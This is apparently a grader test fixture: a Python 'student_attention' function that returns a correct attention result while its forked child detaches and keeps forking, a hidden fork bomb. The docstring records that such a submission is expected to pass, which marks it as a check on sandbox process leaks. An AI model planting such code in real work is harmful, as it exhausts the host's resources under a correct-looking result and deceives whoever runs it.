"""Right, and leaves daemons of daemons that start more of themselves.

Expected: passed
"""

import contextlib
import os
import time


STARTED = []


def student_attention(Q, K, V, mask=None):
    if not STARTED:
        STARTED.append(os.fork())
    if STARTED[0] == 0:
        os.setsid()
        while True:
            time.sleep(0.01)
            with contextlib.suppress(OSError):
                os.fork()
    return honest(Q, K, V, mask)
